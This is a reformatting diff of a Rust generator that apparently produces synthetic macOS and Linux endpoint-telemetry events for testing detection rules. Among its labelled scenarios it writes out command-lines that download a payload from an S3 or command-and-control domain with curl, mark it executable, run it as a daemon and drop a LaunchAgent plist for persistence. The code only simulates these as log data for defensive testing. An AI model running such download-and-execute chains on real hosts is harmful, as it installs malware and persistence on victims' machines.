@@ -536,8 +536,7 @@ const MAC_OS: &[(&str, &str, &str)] = &[
     ("26.1", "macOS 26.1 (25B78)", "25.1.0"),
 ];
 const AGENT_VERSIONS: &[&str] = &["8.17.4", "8.18.2", "8.19.3", "9.1.5"];
-const USERS: &[&str] =
-    &["jdoe", "asmith", "mgarcia", "kchen", "rpatel", "lnguyen", "tmueller", "ofrost", "bwilson", "ykato"];
+const USERS: &[&str] = &["jdoe", "asmith", "mgarcia", "kchen", "rpatel", "lnguyen", "tmueller", "ofrost", "bwilson", "ykato"];
 const HOST_STEMS: &[&str] = &["MacBook-Pro", "MacBook-Air", "Mac-mini", "iMac", "Mac-Studio"];
 
 const DAEMONS: &[(&str, &str)] = &[
@@ -600,13 +599,9 @@ const BG_CHILDREN: &[BgChild] = &[
 /// Background network destinations per pool process name.
 fn net_targets(name: &str) -> &'static [(&'static str, u16)] {
     match name {
-        "Google Chrome" | "Google Chrome Helper" => &[
-            ("www.google.com", 443),
-            ("github.com", 443),
-            ("fonts.gstatic.com", 443),
-            ("docs.rs", 443),
-            ("news.ycombinator.com", 443),
-        ],
+        "Google Chrome" | "Google Chrome Helper" => {
+            &[("www.google.com", 443), ("github.com", 443), ("fonts.gstatic.com", 443), ("docs.rs", 443), ("news.ycombinator.com", 443)]
+        }
         "Slack" => &[("edgeapi.slack.com", 443), ("wss-primary.slack.com", 443), ("files.slack.com", 443)],
         "nsurlsessiond" => &[("mesu.apple.com", 443), ("updates.cdn-apple.com", 443)],
         "trustd" => &[("ocsp.apple.com", 80), ("ocsp2.apple.com", 80), ("crl.apple.com", 80)],
@@ -641,13 +636,8 @@ const SEC: &[(&str, &str, &str)] = &[
     ("log_off", "authentication", "end"),
 ];
 
-const FILE_ACTIONS: &[(&str, &str)] = &[
-    ("creation", "creation"),
-    ("modification", "change"),
-    ("deletion", "deletion"),
-    ("rename", "change"),
-    ("overwrite", "change"),
-];
+const FILE_ACTIONS: &[(&str, &str)] =
+    &[("creation", "creation"), ("modification", "change"), ("deletion", "deletion"), ("rename", "change"), ("overwrite", "change")];
 
 const C2: &[&str] = &[
     "cdn-updates.applesoftupdate.net",
@@ -870,18 +860,10 @@ impl Gen {
             format!("{}-{}-{:03}", user, HOST_STEMS[self.r.random_range(0..HOST_STEMS.len())], idx)
         };
         let host_id = if linux { self.uuid(false) } else { self.uuid(true) };
-        let (os_version, os_full, kernel) = if linux {
-            ("24.04", "Ubuntu 24.04.3 LTS", "6.8.0-87-generic")
-        } else {
-            MAC_OS[self.r.random_range(0..MAC_OS.len())]
-        };
+        let (os_version, os_full, kernel) =
+            if linux { ("24.04", "Ubuntu 24.04.3 LTS", "6.8.0-87-generic") } else { MAC_OS[self.r.random_range(0..MAC_OS.len())] };
         let arch = if linux || self.r.random_bool(0.2) { "x86_64" } else { "arm64" };
-        let ip4 = format!(
-            "10.{}.{}.{}",
-            self.r.random_range(10..60),
-            self.r.random_range(0..255),
-            self.r.random_range(2..250)
-        );
+        let ip4 = format!("10.{}.{}.{}", self.r.random_range(10..60), self.r.random_range(0..255), self.r.random_range(2..250));
         let ll = format!(
             "fe80::{:x}:{:x}:{:x}:{:x}",
             self.r.random_range(0..0xffffu32),
@@ -938,8 +920,7 @@ impl Gen {
             code_helper: kernel_task.clone(),
         };
         let (lname, lexe) = if linux { ("systemd", "/usr/lib/systemd/systemd") } else { ("launchd", "/sbin/launchd") };
-        let launchd =
-            mk_proc(&host, 1, Some(&kernel_task), &img(lname, lexe, &[lexe], Sig::Apple), true, boot + 1_000_000);
+        let launchd = mk_proc(&host, 1, Some(&kernel_task), &img(lname, lexe, &[lexe], Sig::Apple), true, boot + 1_000_000);
         host.launchd = launchd.clone();
         let mut pid = 80u32;
         let mut t = boot + 2_000_000;
@@ -958,20 +939,11 @@ impl Gen {
         let term_exe = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal";
         let term = mk_proc(&host, pid, Some(&launchd), &img("Terminal", term_exe, &[term_exe], Sig::Apple), false, t);
         let login_args = ["login", "-pfl", host.user.as_str(), "/bin/bash", "-c", "exec -la zsh /bin/zsh"];
-        let login = mk_proc(
-            &host,
-            pid + 3,
-            Some(&term),
-            &img("login", "/usr/bin/login", &login_args, Sig::Apple),
-            true,
-            t + 40_000,
-        );
-        host.zsh =
-            mk_proc(&host, pid + 4, Some(&login), &img("zsh", "/bin/zsh", &["-zsh"], Sig::Apple), false, t + 60_000);
+        let login = mk_proc(&host, pid + 3, Some(&term), &img("login", "/usr/bin/login", &login_args, Sig::Apple), true, t + 40_000);
+        host.zsh = mk_proc(&host, pid + 4, Some(&login), &img("zsh", "/bin/zsh", &["-zsh"], Sig::Apple), false, t + 60_000);
         host.pool.push(term);
         let (cn, ce, cs) = CODE_HELPER;
-        host.code_helper =
-            mk_proc(&host, pid + 40, Some(&launchd), &img(cn, ce, &[ce, "--type=utility"], cs), false, t + 9_000_000);
+        host.code_helper = mk_proc(&host, pid + 40, Some(&launchd), &img(cn, ce, &[ce, "--type=utility"], cs), false, t + 9_000_000);
         host.pool.push(host.code_helper.clone());
         host.next_pid = host.next_pid.max(pid + 200);
         host
@@ -1122,11 +1094,24 @@ impl Gen {
                 _ => format!("/Users/{user}/Downloads/report-{}.pdf.crdownload", n % 10_000),
             },
             "Slack" => format!("/Users/{user}/Library/Application Support/Slack/IndexedDB/https_app.slack.com_0.indexeddb.leveldb/{:06}.log", n % 999_999),
-            "cfprefsd" => format!("/Users/{user}/Library/Preferences/{}.plist", ["com.apple.finder", "com.apple.dock", "com.google.Chrome", "com.apple.Terminal", ".GlobalPreferences"][n as usize % 5]),
+            "cfprefsd" => format!(
+                "/Users/{user}/Library/Preferences/{}.plist",
+                ["com.apple.finder", "com.apple.dock", "com.google.Chrome", "com.apple.Terminal", ".GlobalPreferences"][n as usize % 5]
+            ),
             "logd" => format!("/private/var/db/diagnostics/Persist/{:016x}.tracev3", n as u64 * 7),
-            "Code Helper" => format!("/Users/{user}/src/payments-api/{}", ["src/main.rs", "src/handlers/refund.rs", "Cargo.lock", "target/debug/.fingerprint/payments-api-3f2a/output", ".git/index.lock"][n as usize % 5]),
+            "Code Helper" => format!(
+                "/Users/{user}/src/payments-api/{}",
+                ["src/main.rs", "src/handlers/refund.rs", "Cargo.lock", "target/debug/.fingerprint/payments-api-3f2a/output", ".git/index.lock"]
+                    [n as usize % 5]
+            ),
             "Finder" => format!("/Users/{user}/Desktop/Screenshot 2026-11-0{} at {}.{:02}.{:02}.png", n % 2 + 1, 9 + n % 8, n % 60, n % 59),
-            _ => format!("/private/var/folders/{}/{}/T/TemporaryItems/{}-{}.tmp", ["zz", "x7", "k2", "9q"][n as usize % 4], "zyxvpxvq6csfxvn_n0000000000000", p.name.replace(' ', ""), hex_digest(n as u64, 8)),
+            _ => format!(
+                "/private/var/folders/{}/{}/T/TemporaryItems/{}-{}.tmp",
+                ["zz", "x7", "k2", "9q"][n as usize % 4],
+                "zyxvpxvq6csfxvn_n0000000000000",
+                p.name.replace(' ', ""),
+                hex_digest(n as u64, 8)
+            ),
         }
     }
 
@@ -1173,34 +1158,13 @@ impl Gen {
             sc,
             h,
             t,
-            Kind::Net(Box::new(Net {
-                start: true,
-                dst_ip: ip.clone(),
-                dst_port: port,
-                domain: Some(domain.to_string()),
-                src_port,
-                bytes: (0, 0),
-            })),
+            Kind::Net(Box::new(Net { start: true, dst_ip: ip.clone(), dst_port: port, domain: Some(domain.to_string()), src_port, bytes: (0, 0) })),
             p,
             q,
         );
         let t = self.tick(sc, 20, 4_000);
         let bytes = (self.r.random_range(300..40_000), self.r.random_range(500..2_000_000));
-        Self::ev(
-            sc,
-            h,
-            t,
-            Kind::Net(Box::new(Net {
-                start: false,
-                dst_ip: ip,
-                dst_port: port,
-                domain: Some(domain.to_string()),
-                src_port,
-                bytes,
-            })),
-            p,
-            0,
-        );
+        Self::ev(sc, h, t, Kind::Net(Box::new(Net { start: false, dst_ip: ip, dst_port: port, domain: Some(domain.to_string()), src_port, bytes })), p, 0);
     }
 
     fn bg_net(&mut self, sc: &mut Sc) {
@@ -1300,9 +1264,7 @@ impl Gen {
         if self.r.random_bool(0.2) {
             let u = self.uuid(true);
             let tag = self.rand_tag(6);
-            format!(
-                "/Library/InstallerSandboxes/.PKInstallSandboxManager/{u}.activeSandbox/Scripts/{pkgid}.{tag}/{phase}"
-            )
+            format!("/Library/InstallerSandboxes/.PKInstallSandboxManager/{u}.activeSandbox/Scripts/{pkgid}.{tag}/{phase}")
         } else {
             let a = self.rand_tag(6);
             let b = self.rand_tag(6);
@@ -1326,13 +1288,7 @@ impl Gen {
             Par::Cli(name) => {
                 let zsh = self.hosts[h].zsh.clone();
                 let pkgpath = format!("/Users/{user}/Downloads/{pkg}");
-                let sudo = self.spawn(
-                    sc,
-                    &zsh,
-                    &img("sudo", "/usr/bin/sudo", &["sudo", name, "-pkg", &pkgpath, "-target", "/"], Sig::Apple),
-                    true,
-                    0,
-                );
+                let sudo = self.spawn(sc, &zsh, &img("sudo", "/usr/bin/sudo", &["sudo", name, "-pkg", &pkgpath, "-target", "/"], Sig::Apple), true, 0);
                 let exe = format!("/usr/sbin/{name}");
                 self.spawn(sc, &sudo, &img(name, &exe, &[name, "-pkg", &pkgpath, "-target", "/"], Sig::Apple), true, 0)
             }
@@ -1406,14 +1362,7 @@ impl Gen {
         let ip = self.ip_for(&dl.domain);
         let src_port = self.r.random_range(49_152..65_535);
         if dl.connect {
-            let net = Net {
-                start: true,
-                dst_ip: ip.clone(),
-                dst_port: dl.port,
-                domain: Some(dl.domain.clone()),
-                src_port,
-                bytes: (0, 0),
-            };
+            let net = Net { start: true, dst_ip: ip.clone(), dst_port: dl.port, domain: Some(dl.domain.clone()), src_port, bytes: (0, 0) };
             Self::ev(sc, h, t, Kind::Net(Box::new(net)), &child, dl.nq);
         }
         let t2 = self.tick(sc, 30, 1200);
@@ -1497,24 +1446,18 @@ impl Gen {
                 let shell = self.script_img("sh", "/bin/sh", "/bin/sh", "postinstall");
                 let par = self.par(sc, Par::Pss);
                 let sh = self.spawn(sc, &par, &shell, true, 0);
-                let bucket = format!(
-                    "{}-{}",
-                    ["cdn", "dist", "update", "assets"][self.r.random_range(0..4)],
-                    self.rand_tag(8).to_lowercase()
-                );
+                let bucket = format!("{}-{}", ["cdn", "dist", "update", "assets"][self.r.random_range(0..4)], self.rand_tag(8).to_lowercase());
                 let domain = format!("{bucket}.s3.amazonaws.com");
                 let url = format!("https://{domain}/{}/payload.bin", self.rand_tag(6).to_lowercase());
                 let curl = img("curl", "/usr/bin/curl", &["curl", "-fsSL", "-o", "/tmp/.x", &url], Sig::Apple);
                 let d = self.dl(curl, domain);
                 self.download(sc, &sh, d);
-                let chmod =
-                    self.spawn(sc, &sh, &img("chmod", "/bin/chmod", &["chmod", "+x", "/tmp/.x"], Sig::Apple), true, 0);
+                let chmod = self.spawn(sc, &sh, &img("chmod", "/bin/chmod", &["chmod", "+x", "/tmp/.x"], Sig::Apple), true, 0);
                 self.end(sc, &chmod, 1, 10, 0);
                 let x = self.spawn(sc, &sh, &img(".x", "/tmp/.x", &["/tmp/.x", "--daemon"], Sig::Unsigned), true, 0);
                 let user = self.hosts[sc.h].user.clone();
                 let t = self.tick(sc, 5, 300);
-                let plist =
-                    format!("/Users/{user}/Library/LaunchAgents/com.{}.agent.plist", self.rand_tag(6).to_lowercase());
+                let plist = format!("/Users/{user}/Library/LaunchAgents/com.{}.agent.plist", self.rand_tag(6).to_lowercase());
                 Self::ev(sc, sc.h, t, Kind::File(0, plist.into()), &x, 0);
                 self.end(sc, &sh, 5, 200, 0);
                 self.end(sc, &par, 5, 500, 0);
@@ -1533,12 +1476,7 @@ impl Gen {
                 let pl = self.spawn(
                     sc,
                     &sh,
-                    &img(
-                        "plutil",
-                        "/usr/bin/plutil",
-                        &["plutil", "-convert", "xml1", "-r", "/tmp/version.json", "-o", "/tmp/version.plist"],
-                        Sig::Apple,
-                    ),
+                    &img("plutil", "/usr/bin/plutil", &["plutil", "-convert", "xml1", "-r", "/tmp/version.json", "-o", "/tmp/version.plist"], Sig::Apple),
                     false,
                     0,
                 );
@@ -1562,15 +1500,13 @@ impl Gen {
                 let domain = format!("{org}.jamfcloud.com");
                 let shell = self.script_img("bash", "/bin/bash", "/bin/bash", "postinstall");
                 let url = format!("https://{domain}/bin/jamf.gz");
-                let curl =
-                    img("curl", "/usr/bin/curl", &["/usr/bin/curl", "-ks", "-o", "/tmp/jamf.gz", &url], Sig::Apple);
+                let curl = img("curl", "/usr/bin/curl", &["/usr/bin/curl", "-ks", "-o", "/tmp/jamf.gz", &url], Sig::Apple);
                 let d = self.dl(curl, domain);
                 self.chain(sc, Par::Pss, shell, 0, d);
                 (1, 0)
             }
             "TP6_case_Installer_Python" => {
-                let exe =
-                    "/Library/Frameworks/Python.framework/Versions/2.7/Resources/Python.app/Contents/MacOS/Python";
+                let exe = "/Library/Frameworks/Python.framework/Versions/2.7/Resources/Python.app/Contents/MacOS/Python";
                 let c2 = self.c2();
                 let url = format!("https://{c2}/py/{}", self.rand_tag(8));
                 let code = format!("import subprocess; subprocess.call(['curl','-s','-o','/tmp/.p','{url}'])");
@@ -1593,12 +1529,7 @@ impl Gen {
                         &["defaults", "write", "/Library/Preferences/com.vendor.agent", "Enabled", "-bool", "true"],
                         Sig::Apple,
                     ),
-                    img(
-                        "launchctl",
-                        "/bin/launchctl",
-                        &["launchctl", "load", "/Library/LaunchDaemons/com.vendor.agent.plist"],
-                        Sig::Apple,
-                    ),
+                    img("launchctl", "/bin/launchctl", &["launchctl", "load", "/Library/LaunchDaemons/com.vendor.agent.plist"], Sig::Apple),
                 ] {
                     let c = self.spawn(sc, &sh, &im, true, 0);
                     let t = self.tick(sc, 1, 40);
@@ -1617,12 +1548,7 @@ impl Gen {
                 let im = match self.r.random_range(0..5) {
                     0 => img("nscurl", "/usr/bin/nscurl", &["nscurl", "--download", &url], Sig::Apple),
                     1 => img("git", "/usr/bin/git", &["git", "clone", &url], Sig::Apple),
-                    2 => img(
-                        "perl",
-                        "/usr/bin/perl",
-                        &["perl", "-MLWP::Simple", "-e", "getstore('x','/tmp/x')"],
-                        Sig::Apple,
-                    ),
+                    2 => img("perl", "/usr/bin/perl", &["perl", "-MLWP::Simple", "-e", "getstore('x','/tmp/x')"], Sig::Apple),
                     3 => img("python3", "/usr/bin/python3", &["python3", "-c", "import urllib.request"], Sig::Apple),
                     _ => img(
                         "VendorUpdater",
@@ -1695,10 +1621,8 @@ impl Gen {
                 let domain = "specialattributes.s3.amazonaws.com".to_string();
                 let url = format!("https://{domain}/applications/updater/ver.json");
                 let cmd = format!("/usr/bin/curl {url} > /tmp/agent.sh");
-                let sh =
-                    self.spawn(sc, &par, &img("bash", "/bin/bash", &["/bin/bash", "-c", &cmd], Sig::Apple), false, 0);
-                let curl =
-                    self.reimage(sc, &sh, &img("curl", "/usr/bin/curl", &["/usr/bin/curl", &url], Sig::Apple), None, 0);
+                let sh = self.spawn(sc, &par, &img("bash", "/bin/bash", &["/bin/bash", "-c", &cmd], Sig::Apple), false, 0);
+                let curl = self.reimage(sc, &sh, &img("curl", "/usr/bin/curl", &["/usr/bin/curl", &url], Sig::Apple), None, 0);
                 self.connection(sc, &curl, &domain, 443, true, 0);
                 self.end(sc, &curl, 1, 50, 0);
                 self.end(sc, &par, 200, 2_000, 0);
@@ -1734,13 +1658,7 @@ impl Gen {
                     0 => {
                         // Terminal user: zsh → bash script → curl.
                         let zsh = self.hosts[sc.h].zsh.clone();
-                        let sh = self.spawn(
-                            sc,
-                            &zsh,
-                            &img("bash", "/bin/bash", &["bash", "install.sh"], Sig::Apple),
-                            false,
-                            0,
-                        );
+                        let sh = self.spawn(sc, &zsh, &img("bash", "/bin/bash", &["bash", "install.sh"], Sig::Apple), false, 0);
                         let curl = self.curl_img("curl", &url);
                         let d = self.dl(curl, c2);
                         self.download(sc, &sh, d);
@@ -1763,11 +1681,7 @@ impl Gen {
                 (0, 1)
             }
             "N8_python3_interpreter" => {
-                let exe = if self.r.random_bool(0.5) {
-                    "/usr/bin/python3"
-                } else {
-                    "/Library/Frameworks/Python.framework/Versions/3.12/bin/python3"
-                };
+                let exe = if self.r.random_bool(0.5) { "/usr/bin/python3" } else { "/Library/Frameworks/Python.framework/Versions/3.12/bin/python3" };
                 let shell = self.script_img("python3", exe, "/usr/bin/python3", "postinstall");
                 let c2 = self.c2();
                 let url = format!("https://{c2}/{}", self.rand_tag(8));
@@ -1808,11 +1722,7 @@ impl Gen {
             "N11_cross_host" | "N12_foreign_entity_id" => {
                 let foreign = LABELS[label] == "N12_foreign_entity_id";
                 let a = sc.h;
-                let b = if self.nbg > 1 {
-                    (a + 1 + self.r.random_range(0..self.nbg - 1)) % self.nbg
-                } else {
-                    self.spare_host
-                };
+                let b = if self.nbg > 1 { (a + 1 + self.r.random_range(0..self.nbg - 1)) % self.nbg } else { self.spare_host };
                 let par = self.par(sc, Par::Pss);
                 let shell = self.shell_img();
                 let sh = self.spawn(sc, &par, &shell, true, 0);
@@ -1827,8 +1737,7 @@ impl Gen {
                     self.download(sc, &sh, d);
                 } else {
                     let zsh = self.hosts[b].zsh.clone();
-                    let bsh =
-                        self.spawn(sc, &zsh, &img("bash", "/bin/bash", &["bash", "fetch.sh"], Sig::Apple), false, 0);
+                    let bsh = self.spawn(sc, &zsh, &img("bash", "/bin/bash", &["bash", "fetch.sh"], Sig::Apple), false, 0);
                     self.download(sc, &bsh, d);
                     self.end(sc, &bsh, 1, 30, 0);
                 }
@@ -1889,14 +1798,7 @@ impl Gen {
                 let url = format!("https://{c2}/{}", self.rand_tag(8));
                 let curl_im = self.curl_img("curl", &url);
                 let ip = self.ip_for(&c2);
-                let net = Net {
-                    start: true,
-                    dst_ip: ip.clone(),
-                    dst_port: 443,
-                    domain: Some(c2.clone()),
-                    src_port: 50_123,
-                    bytes: (0, 0),
-                };
+                let net = Net { start: true, dst_ip: ip.clone(), dst_port: 443, domain: Some(c2.clone()), src_port: 50_123, bytes: (0, 0) };
                 let (t_exec, t_cf, t_ce, t_net) = if after {
                     (m * 1000 + 100, m * 1000 + 300, m * 1000 + 500, m * 1000 + 800)
                 } else {
@@ -1909,14 +1811,7 @@ impl Gen {
                 Self::ev(sc, h, t_net, Kind::Net(Box::new(net)), &curl, 0);
                 sc.c = m + 1;
                 let t = self.tick(sc, 50, 800);
-                let net = Net {
-                    start: false,
-                    dst_ip: ip,
-                    dst_port: 443,
-                    domain: Some(c2),
-                    src_port: 50_123,
-                    bytes: (900, 48_000),
-                };
+                let net = Net { start: false, dst_ip: ip, dst_port: 443, domain: Some(c2), src_port: 50_123, bytes: (900, 48_000) };
                 Self::ev(sc, h, t, Kind::Net(Box::new(net)), &curl, 0);
                 self.end(sc, &curl, 1, 20, 0);
                 self.end(sc, &sh, 1, 50, 0);
@@ -1997,11 +1892,7 @@ impl Gen {
                     which = self.r.random_range(0..8u32);
                 }
                 let par = if which & 1 != 0 { Par::Cli("INSTALLER") } else { Par::Pss };
-                let shell = if which & 2 != 0 {
-                    self.script_img("Bash", "/bin/Bash", "/bin/Bash", "postinstall")
-                } else {
-                    self.shell_img()
-                };
+                let shell = if which & 2 != 0 { self.script_img("Bash", "/bin/Bash", "/bin/Bash", "postinstall") } else { self.shell_img() };
                 let c2 = self.c2();
                 let url = format!("https://{c2}/{}", self.rand_tag(8));
                 let curl = self.curl_img(if which & 4 != 0 { "CURL" } else { "curl" }, &url);
@@ -2036,8 +1927,7 @@ impl Gen {
                 sc.c += self.r.random_range(8_000..11_000);
                 let script = sh.args.get(1).cloned().unwrap_or_default();
                 let stage2 = format!("{script}.stage2");
-                let bash =
-                    self.reimage(sc, &sh, &img("bash", "/bin/bash", &["/bin/bash", &stage2], Sig::Apple), None, 0);
+                let bash = self.reimage(sc, &sh, &img("bash", "/bin/bash", &["/bin/bash", &stage2], Sig::Apple), None, 0);
                 let t2 = sc.c;
                 let c2 = self.c2();
                 let url = format!("https://{c2}/{}", self.rand_tag(8));
@@ -2328,33 +2218,13 @@ fn write_doc(js: &mut Js, h: &Host, ev: &Ev, id: &[u8; 24], lib_digests: &[Strin
     let ts = fmt_ts(ev.t);
     let ts = std::str::from_utf8(&ts).unwrap_or("1970-01-01T00:00:00.000000Z");
     let idstr = std::str::from_utf8(id).unwrap_or("AAAAAAAAAAAAAAAAAAAAAAAA");
-    let (ds, action, cats, types, outcome, msg, mode): (&str, &str, &[&str], &[&str], &str, &str, PMode) = match &ev
-        .kind
-    {
+    let (ds, action, cats, types, outcome, msg, mode): (&str, &str, &[&str], &[&str], &str, &str, PMode) = match &ev.kind {
         Kind::Fork => ("process", "fork", &["process"], &["start"], "success", "Endpoint process event", PMode::Full),
         Kind::Exec => ("process", "exec", &["process"], &["start"], "success", "Endpoint process event", PMode::Full),
         Kind::End(_) => ("process", "end", &["process"], &["end"], "success", "Endpoint process event", PMode::Full),
-        Kind::Net(n) if n.start => (
-            "network",
-            "connection_attempted",
-            &["network"],
-            &["start"],
-            "unknown",
-            "Endpoint network event",
-            PMode::Net,
-        ),
-        Kind::Net(_) => {
-            ("network", "disconnect_received", &["network"], &["end"], "unknown", "Endpoint network event", PMode::Net)
-        }
-        Kind::Dns(_) => (
-            "network",
-            "lookup_result",
-            &["network"],
-            &["protocol", "info"],
-            "success",
-            "Endpoint DNS event",
-            PMode::Net,
-        ),
+        Kind::Net(n) if n.start => ("network", "connection_attempted", &["network"], &["start"], "unknown", "Endpoint network event", PMode::Net),
+        Kind::Net(_) => ("network", "disconnect_received", &["network"], &["end"], "unknown", "Endpoint network event", PMode::Net),
+        Kind::Dns(_) => ("network", "lookup_result", &["network"], &["protocol", "info"], "success", "Endpoint DNS event", PMode::Net),
         Kind::File(a, _) => {
             let (act, ty) = FILE_ACTIONS[*a as usize % FILE_ACTIONS.len()];
             (
@@ -2371,9 +2241,7 @@ fn write_doc(js: &mut Js, h: &Host, ev: &Ev, id: &[u8; 24], lib_digests: &[Strin
                 PMode::File,
             )
         }
-        Kind::Lib(_) => {
-            ("library", "load", &["library"], &["start"], "success", "Endpoint library load event", PMode::Lib)
-        }
+        Kind::Lib(_) => ("library", "load", &["library"], &["start"], "success", "Endpoint library load event", PMode::Lib),
         Kind::Sec(s) => {
             let (act, cat, ty) = SEC[*s as usize % SEC.len()];
             (
@@ -2421,14 +2289,7 @@ fn write_doc(js: &mut Js, h: &Host, ev: &Ev, id: &[u8; 24], lib_digests: &[Strin
         js.open("code_signature", false);
         js.bo("exists", true);
         js.s("status", "trusted");
-        js.s(
-            "subject_name",
-            if path.starts_with("/System") || path.starts_with("/usr") {
-                "Software Signing"
-            } else {
-                "Developer ID Application"
-            },
-        );
+        js.s("subject_name", if path.starts_with("/System") || path.starts_with("/usr") { "Software Signing" } else { "Developer ID Application" });
         js.bo("trusted", true);
         js.close();
         let d = &lib_digests[l as usize % lib_digests.len()];
@@ -2728,12 +2589,8 @@ mod tests {
             .map(|l| {
                 let d: serde_json::Value = serde_json::from_str(l).expect("json");
                 let ts = d["@timestamp"].as_str().expect("ts");
-                let hms: i64 =
-                    ts[11..13].parse::<i64>().unwrap() * 3_600_000 + ts[14..16].parse::<i64>().unwrap() * 60_000;
-                let ms = ts[8..10].parse::<i64>().unwrap() * 86_400_000
-                    + hms
-                    + ts[17..19].parse::<i64>().unwrap() * 1000
-                    + ts[20..23].parse::<i64>().unwrap();
+                let hms: i64 = ts[11..13].parse::<i64>().unwrap() * 3_600_000 + ts[14..16].parse::<i64>().unwrap() * 60_000;
+                let ms = ts[8..10].parse::<i64>().unwrap() * 86_400_000 + hms + ts[17..19].parse::<i64>().unwrap() * 1000 + ts[20..23].parse::<i64>().unwrap();
                 let seq = get(&d, "event.sequence").and_then(|v| v.as_i64()).unwrap_or(-1);
                 (ms, seq, d)
             })
